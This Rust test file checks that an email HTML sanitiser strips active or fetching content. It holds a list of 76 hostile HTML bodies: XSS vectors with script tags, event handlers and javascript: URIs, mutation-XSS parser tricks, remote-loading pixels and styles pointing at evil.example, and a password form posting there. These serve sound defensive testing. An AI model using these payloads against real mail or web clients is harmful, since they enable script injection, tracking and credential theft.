//! HTML that is out to do something: what is left of it can do nothing and fetches nothing.

use super::{clients::letter, read};

/// What attackers send, and what leaks when it is shown.
const BODIES: [&str; 76] = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"cid:a\" onload=alert(1)>",
    "<body onload=alert(1)>text",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"java&#9;script:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"//evil.example/x\">x</a>",
    "<a href=\"/\\evil.example\">x</a>",
    "<a href=\"/logout\">x</a>",
    "<a href=\"tickets/1/delete\">x</a>",
    "<a href=\"?close=1\">x</a>",
    "<a href=\"#x\">x</a>",
    "<a href=\"\">x</a>",
    "<a href=\"cid:a\">x</a>",
    "<a href=\"http:evil\">x</a>",
    "<a href=\"https://good.example/\" target=_blank ping=//evil.example onclick=alert(1)>x</a>",
    "<a href=\"https://good.example/\" rel=opener>x</a>",
    "<img src=\"https://evil.example/px.gif\">",
    "<img src=\"//evil.example/px.gif\">",
    "<img src=\"/tickets/1/close\">",
    "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
    "<img srcset=\"//evil.example/px.gif 1x\">",
    "<img src=\"cid:a\" srcset=\"//evil.example/px.gif 2x\" sizes=1>",
    "<img src=\"cid:a\" lowsrc=//evil.example dynsrc=//evil.example longdesc=//evil.example>",
    "<img src=\"cid:a&quot; onerror=alert(1) x=&quot;\">",
    "<picture><source srcset=//evil.example/a><img src=//evil.example/b></picture>",
    "<table background=//evil.example/px.gif><tr><td background=//evil.example>x</td></tr></table>",
    "<body background=\"https://evil.example/px.gif\">x",
    "<div style=\"background:url(//evil.example/px.gif)\">x</div>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
    "<style>@import url(//evil.example/a.css); td { background: url(//evil.example/b) }</style>x",
    "<style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<link rel=prefetch href=//evil.example>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<meta http-equiv=\"set-cookie\" content=\"a=b\">",
    "<base href=\"//evil.example/\"><a href=x>x</a>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<form action=//evil.example><input name=password type=password><button>Go</button></form>",
    "<input type=image src=//evil.example formaction=javascript:alert(1)>",
    "<button form=x formaction=javascript:alert(1)>x</button>",
    "<isindex type=image src=//evil.example onerror=alert(1)>",
    "<video src=//evil.example poster=//evil.example onerror=alert(1)></video>",
    "<audio src=//evil.example autoplay></audio>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,x#x\"/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<select><option><img src=x onerror=alert(1)></select>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if mso]><img src=//evil.example/px.gif onerror=alert(1)><![endif]-->x",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=//evil.example?><b>x</b>",
    "<form id=x></form><img name=body id=cookie><a name=getElementById id=location>x</a>",
    "<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>",
];

/// What they are put into.
const FRAMES: [(&str, &str); 9] = [
    ("", ""),
    ("<div><p>", "</p></div>"),
    ("<table><tr><td>", "</td></tr></table>"),
    ("<table>", "</table>"),
    ("<svg><foreignObject>", "</foreignObject></svg>"),
    ("<math><mtext>", "</mtext></math>"),
    ("<a href=\"https://good.example/\">", "</a>"),
    ("<b><i><u><blockquote type=cite>", "</b></blockquote></i>"),
    ("<p title='", "'>x</p>"),
];

const ELEMENTS: [&str; 55] = [
    "a",
    "abbr",
    "b",
    "bdi",
    "big",
    "blockquote",
    "br",
    "caption",
    "center",
    "cite",
    "code",
    "col",
    "colgroup",
    "dd",
    "del",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "pre",
    "q",
    "s",
    "samp",
    "small",
    "span",
    "strike",
    "strong",
    "sub",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "tr",
    "u",
];

const ATTRIBUTES: [&str; 13] = [
    "href", "title", "src", "alt", "width", "height", "colspan", "rowspan", "scope", "span",
    "start", "type", "rel",
];

#[test]
fn nothing_that_acts_or_fetches_is_left_of_hostile_html() {
    let mut count = 0;
    for body in BODIES {
        for (before, after) in FRAMES {
            for how in 0..3 {
                let html = changed(&format!("{before}{body}{after}"), how);
                let mail = read(letter(None, Some(html.clone()), false).as_bytes());
                count += 1;
                if let Some(clean) = mail.body.html {
                    harmless(&clean).unwrap_or_else(|why| panic!("{why}\nof {html}\nis {clean}"));
                    let again = letter(None, Some(clean.clone()), false);
                    let again = read(again.as_bytes()).body.html.unwrap();
                    assert_eq!(again.trim(), clean.trim(), "cleaned twice: {html}");
                }
            }
        }
    }
    assert!(count >= 2_000, "bodies are missing");
}

/// The same as it is, in capitals, and with slashes for blanks in tags.
fn changed(html: &str, how: usize) -> String {
    match how {
        0 => html.to_owned(),
        1 => html.to_uppercase(),
        _ => html
            .replace("<img ", "<img/")
            .replace("<a ", "<a\u{c}")
            .replace("<svg", "<svg\n"),
    }
}

/// Whether each `<` begins a tag that is allowed, as a serialiser writes tags; else why not.
pub fn harmless(html: &str) -> Result<(), String> {
    for piece in html.split('<').skip(1) {
        let (tag, text) = piece
            .split_once('>')
            .ok_or_else(|| format!("a tag without end: {piece}"))?;
        if text.contains('>') {
            return Err(format!("a sign that is not escaped: {text}"));
        }
        let name = tag.trim_start_matches('/');
        let end = name.find(' ').unwrap_or(name.len());
        let (name, mut rest) = name.split_at(end);
        if !ELEMENTS.contains(&name) {
            return Err(format!("the element {name}"));
        }
        while let Some(after) = rest.strip_prefix(' ') {
            let (attribute, value) = after
                .split_once("=\"")
                .ok_or_else(|| format!("an attribute without value: {after}"))?;
            let (value, after) = value
                .split_once('"')
                .ok_or_else(|| format!("a value without end: {value}"))?;
            rest = after;
            let lower = value.to_lowercase();
            let is_right = match attribute {
                "href" => ["http://", "https://", "mailto:"]
                    .iter()
                    .any(|scheme| lower.starts_with(scheme)),
                "src" => name == "img" && lower.starts_with("cid:"),
                "rel" => value == "noopener noreferrer nofollow",
                other => ATTRIBUTES.contains(&other),
            };
            if !is_right {
                return Err(format!("{attribute}={value} of {name}"));
            }
        }
        if !rest.is_empty() {
            return Err(format!("something else in a tag: {rest}"));
        }
    }
    Ok(())
}

#[test]
fn a_check_that_is_blind_would_be_seen() {
    for html in [
        "<img src=\"https://evil.example/\">",
        "<a href=\"javascript:x\">",
        "<a href=\"/x\">",
        "<b onclick=\"x\">",
        "<svg>",
        "a < b",
        "<b/x>",
    ] {
        assert!(harmless(html).is_err(), "{html}");
    }
    assert!(harmless("<p title=\"a\">a &lt; b<br></p>").is_ok());
}

#[test]
fn links_and_pictures_of_the_letter_stay() {
    let html = "<p>See <a href=\"HTTPS://Good.example/a?b=1&amp;c=2\">here</a> <img src=\"CID:logo@x\" alt=Logo width=40></p>";
    let mail = read(letter(None, Some(html.to_owned()), false).as_bytes());
    let clean = mail.body.html.unwrap();
    assert_eq!(
        clean,
        "<p>See <a href=\"https://good.example/a?b=1&amp;c=2\" rel=\"noopener noreferrer nofollow\">here</a> <img src=\"cid:logo@x\" alt=\"Logo\" width=\"40\"></p>"
    );
}
